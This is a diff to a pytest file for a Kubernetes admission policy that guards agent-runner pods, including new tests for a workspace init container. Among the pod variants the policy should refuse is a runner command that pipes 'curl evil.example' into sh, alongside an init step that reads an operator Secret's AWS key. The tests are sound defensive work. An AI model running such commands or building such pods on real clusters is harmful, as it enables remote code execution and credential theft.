@@ -250,11 +250,11 @@ POD_VARIANTS: dict[str, tuple[Callable[[Obj], Obj], str]] = {
                 runner(p)["volumeMounts"].append({"name": "host", "mountPath": "/host"}),
             )
         ),
-        "emptyDir and downwardAPI volumes only",
+        "emptyDir and downwardAPI volumes",
     ),
     "Secret volume": (
         edit(lambda p: p["spec"]["volumes"].append({"name": "s", "secret": {"secretName": "x"}})),
-        "emptyDir and downwardAPI volumes only",
+        "emptyDir and downwardAPI volumes",
     ),
     "projected token": (
         edit(
@@ -262,7 +262,7 @@ POD_VARIANTS: dict[str, tuple[Callable[[Obj], Obj], str]] = {
                 {"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}
             )
         ),
-        "emptyDir and downwardAPI volumes only",
+        "emptyDir and downwardAPI volumes",
     ),
     "privileged": (
         edit(
@@ -313,7 +313,7 @@ POD_VARIANTS: dict[str, tuple[Callable[[Obj], Obj], str]] = {
     ),
     "root": (
         edit(lambda p: p["spec"]["securityContext"].update(runAsNonRoot=False, runAsUser=0)),
-        "runAsNonRoot, the runner as runner.uid",
+        "runAsNonRoot, the runner and the workspace init step as runner.uid",
     ),
     "gateway as the runner's uid": (
         edit(lambda p: gateway(p)["securityContext"].update(runAsUser=65532, runAsGroup=65532)),
@@ -369,16 +369,16 @@ POD_VARIANTS: dict[str, tuple[Callable[[Obj], Obj], str]] = {
     ),
     "another command": (
         edit(lambda p: runner(p).update(command=["sh", "-c", "curl evil.example | sh"])),
-        "the containers run runner.command and gateway.command",
+        "the containers run runner.command, gateway.command and gateway.workspaceCommand",
     ),
     "args": (edit(lambda p: runner(p).update(args=["--debug"])), "with no args"),
     "a second container": (
         edit(lambda p: p["spec"]["containers"].append({**runner(p), "name": "extra"})),
-        "exactly the runner container and the gateway sidecar",
+        "exactly the runner container, the gateway sidecar",
     ),
     "nodeName": (
         edit(lambda p: p["spec"].update(nodeName="control-plane")),
-        "exactly the runner container and the gateway sidecar",
+        "exactly the runner container, the gateway sidecar",
     ),
 }
 
@@ -393,6 +393,97 @@ def test_a_pod_other_than_the_runner_shape_is_refused(installed: Installed, vari
     refused_with(installed, change(installed.pod()), message)
 
 
+WORKSPACE_SPEC: dict[str, Any] = {
+    "workspace": {
+        "sources": [
+            {
+                "name": "repo",
+                "path": "src",
+                "git": {
+                    "url": "https://git.example.com/r.git",
+                    "credentialsSecretRef": {"name": "gc"},
+                },
+            },
+            {"name": "cfg", "path": "cfg", "configMap": {"name": "settings"}},
+            {"name": "keys", "path": "keys", "secret": {"name": "tenant-keys"}},
+        ]
+    },
+    "outputs": {"git": [{"source": "repo", "push": {}}]},
+}
+
+
+def test_a_pod_with_workspace_sources_is_allowed(installed: Installed) -> None:
+    """The init step after the gateway, its source volumes and git credentials: allowed."""
+    pod = installed.pod(**WORKSPACE_SPEC)
+    assert [c["name"] for c in pod["spec"]["initContainers"]] == ["gateway", "workspace"]
+    allowed, said = installed.create(pod)
+    assert allowed, said
+
+
+def workspace_init(pod: Obj) -> Obj:
+    container: Obj = pod["spec"]["initContainers"][1]
+    assert container["name"] == "workspace"
+    return container
+
+
+WORKSPACE_VARIANTS: dict[str, tuple[Callable[[Obj], Obj], str]] = {
+    "a source volume in the agent's container": (
+        edit(
+            lambda p: runner(p)["volumeMounts"].append({"name": "source-keys", "mountPath": "/k"})
+        ),
+        "mounted in the workspace init container only",
+    ),
+    "the git state in the agent's container": (
+        edit(lambda p: runner(p)["volumeMounts"].append({"name": "git-state", "mountPath": "/g"})),
+        "the git-state volume never in the runner container",
+    ),
+    "an operator Secret as a source volume": (
+        edit(
+            lambda p: p["spec"]["volumes"].append(
+                {"name": "source-x", "secret": {"secretName": "agentsession-store-other-1"}}
+            )
+        ),
+        "never an agentsession-* Secret",
+    ),
+    "another init step command": (
+        edit(lambda p: workspace_init(p).update(command=["sh", "-c", "env"])),
+        "gateway.workspaceCommand",
+    ),
+    "the init step as the gateway's uid": (
+        edit(lambda p: workspace_init(p)["securityContext"].update(runAsUser=65533)),
+        "the workspace init step as runner.uid",
+    ),
+    "the store Secret in the init step": (
+        edit(
+            lambda p: workspace_init(p)["env"].append(
+                {
+                    "name": "AWS_SECRET_ACCESS_KEY",
+                    "valueFrom": {
+                        "secretKeyRef": {
+                            "name": "agentsession-store-probe-1",
+                            "key": "AWS_SECRET_ACCESS_KEY",
+                        }
+                    },
+                }
+            )
+        ),
+        "only the gateway may reference one",
+    ),
+    "a third init container": (
+        edit(lambda p: p["spec"]["initContainers"].append({**workspace_init(p), "name": "extra"})),
+        "optionally the workspace init container after it",
+    ),
+}
+
+
+@pytest.mark.parametrize("variant", list(WORKSPACE_VARIANTS))
+def test_a_workspace_pod_other_than_its_shape_is_refused(
+    installed: Installed, variant: str
+) -> None:
+    change, message = WORKSPACE_VARIANTS[variant]
+    refused_with(installed, change(installed.pod(**WORKSPACE_SPEC)), message)
+
+
 def test_a_bare_pod_is_refused(installed: Installed) -> None:
     bare = {
         "apiVersion": "v1",
@@ -403,23 +494,67 @@ def test_a_bare_pod_is_refused(installed: Installed) -> None:
     refused_with(installed, bare, "must carry the runner labels")
 
 
-def test_host_network_is_a_parameter_of_the_policy(installed: Installed) -> None:
+def pods_policy(docs: list[Obj]) -> Obj:
+    (policy,) = (
+        d
+        for d in docs
+        if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"].endswith("-pods")
+    )
+    return policy
+
+
+def allowed_once_rendered_with(
+    installed: Installed, cluster_helm: Helm, values: dict[str, Any], pod: Obj, what: str
+) -> None:
+    """`pod` is refused by the installed policy, allowed once the policy the chart renders with
+    `values` replaces it, and refused again when the installed one is back: the setting is a
+    literal of the policy (no parameter object to change)."""
+    policy = pods_policy(installed.docs)
+    namespace = next(d for d in installed.docs if d["kind"] == "ServiceAccount")["metadata"][
+        "namespace"
+    ]
+    rendered = objects(
+        cluster_helm.template(
+            release=RELEASE, namespace=namespace, set_json={**VALUES, **values}
+        ).stdout
+    )
+    on = pods_policy(rendered)
+    assert "paramKind" not in on["spec"]
+    try:
+        applied = installed.cluster.kubectl("apply", "-f", "-", input_text=json.dumps(on))
+        assert applied.returncode == 0, applied.stderr
+        wait_for(lambda: installed.create(pod)[0], timeout=60, what=f"{what} allowed")
+    finally:
+        installed.cluster.kubectl("apply", "-f", "-", input_text=json.dumps(policy))
+    wait_for(lambda: not installed.create(pod)[0], timeout=60, what=f"{what} refused again")
+
+
+def test_host_network_is_a_setting_of_the_policy(installed: Installed, cluster_helm: Helm) -> None:
     """With the chart's runner.hostNetwork on (a local cluster), the pod the operator then
-    builds is allowed; the parameter object is what changed, not the policy."""
-    (params,) = (d for d in installed.docs if d["kind"] == "ConfigMap")
-    assert params["data"]["hostNetwork"] == "false"
+    builds is allowed: the chart renders the setting into the policy."""
     host = installed.settings.model_copy(update={"runner_host_network": True})
     pod = installed.pod(host)
     assert pod["spec"]["hostNetwork"] is True
     refused_with(installed, pod, "hostNetwork only where")
-    on = with_(params, "data", "hostNetwork", "true")
-    try:
-        applied = installed.cluster.kubectl("apply", "-f", "-", input_text=json.dumps(on))
-        assert applied.returncode == 0, applied.stderr
-        wait_for(lambda: installed.create(pod)[0], timeout=60, what="hostNetwork allowed")
-    finally:
-        installed.cluster.kubectl("apply", "-f", "-", input_text=json.dumps(params))
-    wait_for(lambda: not installed.create(pod)[0], timeout=60, what="hostNetwork refused again")
+    allowed_once_rendered_with(
+        installed, cluster_helm, {"runner.hostNetwork": True}, pod, "hostNetwork"
+    )
+
+
+def test_the_workspace_command_is_a_setting_of_the_policy(
+    installed: Installed, cluster_helm: Helm
+) -> None:
+    """gateway.workspaceCommand is rendered into the policy as a literal like the other
+    commands: the init step of an operator configured with another one is allowed only by the
+    policy rendered with it."""
+    command = ["/opt/agentsession/bin/workspace-init"]
+    other = installed.settings.model_copy(update={"workspace_command": command})
+    pod = installed.pod(other, **WORKSPACE_SPEC)
+    assert workspace_init(pod)["command"] == command
+    refused_with(installed, pod, "gateway.workspaceCommand")
+    allowed_once_rendered_with(
+        installed, cluster_helm, {"gateway.workspaceCommand": command}, pod, "workspace command"
+    )
 
 
 # --- deletes, Secrets, the NetworkPolicy ---------------------------------------------------------
